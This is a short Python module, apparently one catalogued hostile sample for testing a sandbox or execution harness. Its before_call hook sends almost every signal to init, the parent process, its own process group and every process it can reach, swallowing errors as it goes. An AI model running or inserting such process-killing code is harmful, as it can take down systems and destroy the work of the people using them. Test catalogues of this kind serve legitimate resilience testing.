"""Catalogue: 2, 25. Sends every signal to the supervisor, to its group and to all it may reach."""
import os

NUMBERS = [n for n in range(1, 65) if n not in (32, 33)]


def before_call(args, kwargs):
    for process in (1, os.getppid(), -1, 0):
        for number in NUMBERS:
            try:
                os.kill(process, number)
            except (OSError, OverflowError):
                pass
